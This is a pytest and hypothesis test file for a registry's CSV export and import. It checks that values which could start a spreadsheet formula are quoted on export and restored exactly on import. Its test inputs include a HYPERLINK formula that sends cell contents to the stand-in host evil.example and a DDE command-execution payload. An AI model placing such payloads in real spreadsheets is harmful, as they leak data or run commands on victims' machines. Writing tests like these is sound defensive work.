"""CSV formula injection (OWASP): exported cells never start a formula, and import reads them back
exactly: for every string, through the cell rule and through a whole CSV file."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from registry.csvio import _records, neutralise_cell, restore_cell

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A2,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A2,"click")',
        ),
        ("=1+2", "'=1+2"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-1", "'-1"),
        ("-", "'-"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # a value that really begins with '= keeps its quote
        ("''+1", "'''+1"),
        ("'", "'"),  # quotes without a formula character after them are plain text
        ("'abc", "'abc"),
        ("''", "''"),
        ("a=1", "a=1"),
        ("Lift 1", "Lift 1"),
        (" =1", " =1"),  # the importer trims cells; the registry stores no leading blank
        ("", ""),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_one_quote_and_comes_back(value: str, cell: str) -> None:
    assert neutralise_cell(value) == cell
    assert restore_cell(cell) == value


@pytest.mark.parametrize(
    ("cell", "value"),
    [
        ("'=1", "=1"),
        ("''=1", "'=1"),
        ("'-3", "-3"),
        ("'@x", "@x"),
        ("'\t", "\t"),
        ("'abc", "'abc"),  # not one of ours: left alone, the quote is part of the value
        ("'", "'"),
        ("'' ", "'' "),
        ("=1", "=1"),  # a hand-made file with a formula: read as written
        ("+4930123", "+4930123"),
    ],
)
def test_import_takes_off_exactly_one_quote_and_only_before_a_formula_character(
    cell: str, value: str
) -> None:
    assert restore_cell(cell) == value


@given(st.text())
def test_every_string_survives_the_cell_rule(value: str) -> None:
    cell = neutralise_cell(value)
    assert restore_cell(cell) == value
    assert not cell.startswith(TRIGGERS)
    assert cell in (value, "'" + value)


def _through_a_file(values: list[str]) -> list[str]:
    """Write one row as the export does, read it as the import does (trimmed cells, one quote off)."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["id", *(f"c{i}" for i in range(len(values)))])
    writer.writerow(["1", *map(neutralise_cell, values)])
    records = list(_records(out.getvalue()))
    assert len(records) == 2
    return [restore_cell(cell.strip()) for cell in records[1][1][1:]]


# what the registry can hold in a text column: the cleaners trim values and refuse NUL
stored_text = st.text(st.characters(exclude_characters="\x00")).map(str.strip)


@given(st.lists(stored_text, min_size=1, max_size=6))
def test_every_stored_string_survives_export_and_import_through_a_csv_file(values: list[str]) -> None:
    assert _through_a_file(values) == values


def test_formula_characters_inside_quotes_commas_and_line_breaks_come_back() -> None:
    values = ['=cmd|" /C calc"!A0', "'=1", "-2\r\n+3", "@a,b;c", "'", '+"x"']
    assert _through_a_file(values) == values
